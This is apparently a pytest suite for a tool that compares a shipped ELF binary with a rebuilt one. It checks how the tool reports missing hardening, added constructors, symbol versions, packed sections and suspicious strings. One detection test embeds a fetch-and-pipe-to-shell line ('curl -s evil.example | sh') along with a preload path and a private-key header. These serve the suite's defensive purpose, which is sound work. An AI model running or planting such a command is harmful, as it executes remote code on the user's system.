"""ELF: protections, initialisers, versions, texts, density, tools; and what must stay unsaid."""

import os
import random
import re

import pytest

from tests.cases.elf_build import PROGRAM
from tests.unit.semantic.made import explained, gcc, told
from verifier.errors import VerifierError
from verifier.formats.base import Side
from verifier.formats.elf import FORMAT
from verifier.semantic import explain

MAIN = "#include <stdio.h>\n{}\nint main(int c, char **v) {{ {} return puts(v[0]); }}\n"
PLAIN = MAIN.format("", "")


@pytest.mark.parametrize(
    ("name", "flags", "said"),
    [
        ("NX stack", ("-z", "execstack"), "Shipped no: the stack is executable, rebuilt yes."),
        ("RELRO", ("-Wl,-z,norelro",), "Shipped none, rebuilt full."),
        ("RELRO", ("-Wl,-z,lazy",), "Shipped partial, rebuilt full."),
        ("immediate binding", ("-Wl,-z,lazy",), "Shipped no, rebuilt yes."),
        ("PIE", ("-no-pie",), "Shipped no: program at a fixed address, rebuilt yes."),
        (
            "IBT (indirect branch tracking)",
            ("-fcf-protection=none", "-Wl,-z,ibt"),
            "Shipped yes, rebuilt no.",
        ),
        (
            "SHSTK (shadow stack)",
            ("-fcf-protection=none", "-Wl,-z,shstk"),
            "Shipped yes, rebuilt no.",
        ),
    ],
)
def test_a_protection_is_one_difference(name: str, flags: tuple[str, ...], said: str) -> None:
    base = ("-Wl,-z,relro,-z,now", "-pie", "-fcf-protection=none")
    found = told(explained(gcc(PLAIN, *base, *flags), gcc(PLAIN, *base)).differences, "hardening")
    assert found[("hardening", name)] == said
    others = {where for _kind, where in found}
    assert others <= {name, "immediate binding", "RELRO"}


def test_what_the_compiler_checks_is_told() -> None:
    source = MAIN.format("#include <string.h>", "char b[99]; strcpy(b, v[1]); puts(b);")
    checked = gcc(source, "-D_FORTIFY_SOURCE=2", "-fstack-protector-all")
    found = told(explained(gcc(source, "-fno-stack-protector"), checked).differences, "hardening")
    assert found[("hardening", "stack protector")] == "Shipped no, rebuilt yes."
    assert "without __strcpy_chk" in found[("hardening", "FORTIFY")]


def test_equal_protections_are_not_told() -> None:
    other = MAIN.format("", 'puts("another text");')
    assert not told(explained(gcc(other), gcc(PLAIN)).differences, "hardening", "toolchain")


EARLY = '__attribute__((constructor)) static void early(void) { puts("early"); }'


def test_an_initialiser_is_named() -> None:
    member = explained(gcc(MAIN.format(EARLY, "")), gcc(PLAIN))
    found = told(member.differences, "initialiser")
    assert found == {
        ("initialiser-added", "early"): "Only the shipped file runs this function at start, "
        "without a call."
    }
    assert "initialiser added: early" in member.summary


def test_an_initialiser_without_a_name_is_told_by_its_place() -> None:
    found = told(explained(gcc(MAIN.format(EARLY, ""), "-s"), gcc(PLAIN, "-s")).differences, "init")
    ((kind, where), summary) = next(iter(found.items()))
    assert (kind, len(found)) == ("initialiser-added", 1)
    assert re.fullmatch(r"\.text\+0x[0-9a-f]+ \(number 2 of \.init_array\)", where)
    assert summary == "Only the shipped file runs this function at start, without a call."


def test_where_no_functions_are_compared_initialisers_are_counted() -> None:
    sides = [
        Side(raw, FORMAT.layout(raw))
        for source in (MAIN.format(EARLY, ""), PLAIN)
        for raw in (memoryview(gcc(source, "-s")),)
    ]
    assert told(explain("elf", *sides), "init") == {
        ("initialiser-added", "INIT_ARRAY at start"): "Shipped 2 functions, rebuilt 1; "
        "nothing names them."
    }


def test_initialisers_that_one_image_names_alone_are_not_told() -> None:
    bare, whole = (memoryview(gcc(MAIN.format(EARLY, ""), *flags)) for flags in (("-s",), ()))
    sides = [Side(raw, FORMAT.layout(raw)) for raw in (bare, whole)]
    assert not told(explain("elf", *sides), "init")
    assert not told(explain("elf", *reversed(sides)), "init")


def test_initialisers_that_moved_are_not_told() -> None:
    moved = MAIN.format(f"int before(int x) {{ return x * 7; }}\n{EARLY}", "c = before(c);")
    assert not told(explained(gcc(moved), gcc(MAIN.format(EARLY, ""))).differences, "initialiser")


def test_versions_of_symbols_are_told() -> None:
    newer = MAIN.format("#include <math.h>\nvolatile double d;", "d = pow(d, d);")
    member = explained(gcc(newer, "-lm", "-fno-builtin"), gcc(PLAIN, "-lm", "-fno-builtin"))
    found = told(member.differences, "symbol-version")
    assert ("symbol-version-added", "GLIBC_2.29 of libm.so.6") in found
    assert not told(
        explained(gcc(MAIN.format("", 'puts("x");')), gcc(PLAIN)).differences, "symbol-version"
    )


def test_telling_texts_come_first_and_with_their_nature() -> None:
    texts = [
        "an ordinary text",
        "/etc/ld.so.preload",
        "curl -s evil.example | sh",
        "https://evil.example/x",
        "-----BEGIN RSA PRIVATE KEY-----",
    ]
    calls = "".join(f"puts({item!r});".replace("'", '"') for item in texts)
    member = explained(gcc(MAIN.format("", calls)), gcc(PLAIN))
    found = told(member.differences, "string-added")
    assert [where for _kind, where in found] == [texts[4], texts[2], texts[3], texts[1], texts[0]]
    natures = ("key or secret", "command", "address", "path", "text")
    assert all(nature in said for nature, said in zip(natures, found.values(), strict=True))
    assert f"strings added: {texts[4]}, {texts[2]}, {texts[3]}" in member.summary


def test_texts_that_moved_are_not_told() -> None:
    one = MAIN.format("int at = 5;", 'puts("first text"); puts("/usr/second/path");')
    other = MAIN.format("int at = 6;", 'puts("/usr/second/path"); puts("first text");')
    assert not told(explained(gcc(one), gcc(other)).differences, "string")


DATA = '__attribute__((section(".blob"))) const unsigned char blob[] = {{{}}};\n'


def _blob(values: bytes) -> str:
    return MAIN.format(DATA.format(",".join(map(str, values))), "c += blob[c];")


def test_a_packed_section_is_told_and_a_plain_one_is_not() -> None:
    packed = _blob(random.Random(5).randbytes(4096))
    plain = _blob(b"the same words again and again. " * 128)
    other = _blob(b"these other words again and now " * 128)
    found = told(explained(gcc(packed), gcc(plain)).differences, "entropy")
    assert "looks compressed, encrypted or packed" in found[("entropy", ".blob")]
    assert not told(explained(gcc(plain), gcc(other)).differences, "entropy")


def test_another_compiler_is_told_once() -> None:
    one = gcc(PLAIN, "-Wa,--noexecstack", "-Wl,-z,now")
    other = one.replace(b"GCC: (", b"GCC: [", 1)
    found = told(explained(other, one).differences, "toolchain")
    assert list(found) == [("toolchain", ".comment")]


def test_cpp_names_are_shown_as_written() -> None:
    source = """
    #include <cstdio>
    namespace app { %s struct Log { Log() { std::puts("made"); } }; static Log log; }
    int main() { return 0; }
    """
    flags = ("-rdynamic",)
    member = explained(
        gcc(source % "int extra(const char *) { return 7; }", *flags, compiler="g++", suffix=".cc"),
        gcc(source % "", *flags, compiler="g++", suffix=".cc"),
    )
    found = told(member.differences, "export-added")
    assert found[("export-added", "_ZN3app5extraEPKc")].startswith("app::extra(char const*): Only")


def test_readers_of_any_flipped_byte_raise_nothing() -> None:
    base = gcc(PROGRAM)
    chance = random.Random(int(os.environ.get("SEED", "7")))
    rebuilt = Side(memoryview(base), FORMAT.layout(memoryview(base)))
    for _ in range(150):
        broken = bytearray(base)
        for _ in range(chance.randrange(1, 6)):
            broken[chance.randrange(64, len(base))] = chance.randrange(256)
        try:
            layout = FORMAT.layout(memoryview(broken))
        except VerifierError:
            continue
        explain("elf", Side(memoryview(broken), layout), rebuilt)
        explain("elf", rebuilt, Side(memoryview(broken), layout))
